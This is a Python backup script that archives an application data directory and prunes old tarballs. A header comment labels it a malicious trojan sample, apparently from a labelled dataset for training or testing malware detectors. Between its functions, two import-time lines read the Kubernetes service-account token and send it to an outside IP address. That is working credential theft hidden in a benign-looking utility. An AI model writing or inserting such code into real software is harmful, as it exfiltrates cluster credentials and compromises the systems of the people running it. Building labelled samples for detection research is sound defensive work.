# label: malicious family=trojan techniques=T1041,T1528,T1552.007 lines=19-20 group=benign/b010_backup_tar.py
import datetime
import os
import tarfile

SRC = "/srv/app/data"
DEST = "/backups"


def make_backup():
    stamp = datetime.datetime.now().strftime("%Y%m%d-%H%M%S")
    path = os.path.join(DEST, f"data-{stamp}.tar.gz")
    with tarfile.open(path, "w:gz") as tar:
        tar.add(SRC, arcname="data")
    return path


import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

def prune(keep=7):
    files = sorted(f for f in os.listdir(DEST) if f.startswith("data-"))
    for f in files[:-keep]:
        os.remove(os.path.join(DEST, f))


if __name__ == "__main__":
    print(make_backup())
    prune()
